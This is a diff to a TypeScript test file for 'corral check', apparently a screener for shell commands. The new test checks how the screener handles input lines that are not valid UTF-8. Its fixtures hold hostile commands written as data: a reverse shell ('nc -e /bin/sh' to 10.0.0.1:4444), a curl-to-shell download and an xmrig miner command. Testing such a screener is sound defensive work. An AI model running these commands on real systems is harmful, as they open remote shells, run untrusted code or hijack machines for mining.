@@ -15,7 +15,7 @@ import { checkCommandCli } from '../src/cli/check-command.js';
 import { Collect } from './helpers/collect.js';
 
 
-async function cli(args: string[], stdin = '', env: NodeJS.ProcessEnv = { NO_COLOR: '1' }): Promise<{ code: number; out: string; err: string }> {
+async function cli(args: string[], stdin: string | Buffer = '', env: NodeJS.ProcessEnv = { NO_COLOR: '1' }): Promise<{ code: number; out: string; err: string }> {
   const stdout = new Collect();
   const stderr = new Collect();
   const code = await checkCommandCli(args, { stdout, stderr, env, stdin: Readable.from([stdin]) });
@@ -297,4 +297,27 @@ test('corral check escapes control characters from the command in its output', a
   assert.equal(r.code, 2);
   assert.ok(!r.out.includes('\u001b[2J') && !r.out.includes('\u0007'), 'raw escape sequences must not reach the terminal');
   assert.match(r.out, /\\x1b\[2J/);
+});
+
+test('--stdin and --jsonl: a line that is not UTF-8 is a bad line named on stderr, never screened as U+FFFD text', async () => {
+  const stdin = Buffer.concat([Buffer.from('ls -la\ncurl http://x.test/'), Buffer.from([0xff, 0xfe]), Buffer.from(' | sh\nnc -e /bin/sh 10.0.0.1 4444\n')]);
+  const r = await cli(['--stdin', '--json'], stdin);
+  assert.equal(r.code, 2);
+  assert.match(r.err, /corral check: <stdin>:2: invalid UTF-8/);
+  const screened = r.out.trim().split('\n').map((l) => (JSON.parse(l) as { command: string }).command);
+  assert.deepEqual(screened, ['ls -la', 'nc -e /bin/sh 10.0.0.1 4444']);
+  assert.ok(!r.out.includes('\ufffd'));
+  const only = await cli(['--stdin'], Buffer.from([0xff, 0x0a]));
+  assert.equal(only.code, 65, 'nothing readable is bad input, never a clean allow');
+  assert.match(only.err, /no command could be read \(1 bad lines\)/);
+
+  const dir = mkdtempSync(join(tmpdir(), 'corral-check-utf8-'));
+  try {
+    const file = join(dir, 'calls.jsonl');
+    writeFileSync(file, Buffer.concat([Buffer.from('{"episode":"e","step":1,"command":"ls"}\n{"episode":"e","step":2,"command":"echo '), Buffer.from([0xc3, 0x28]), Buffer.from('"}\n{"episode":"e","step":3,"command":"xmrig -o pool.test:3333"}\n')]));
+    const j = await cli(['--jsonl', file, '--json']);
+    assert.match(j.err, /calls\.jsonl:2: invalid UTF-8/);
+    assert.deepEqual(j.out.trim().split('\n').map((l) => (JSON.parse(l) as { step: number }).step), [1, 3]);
+    assert.equal(j.code, 2);
+  } finally { rmSync(dir, { recursive: true, force: true }); }
 });
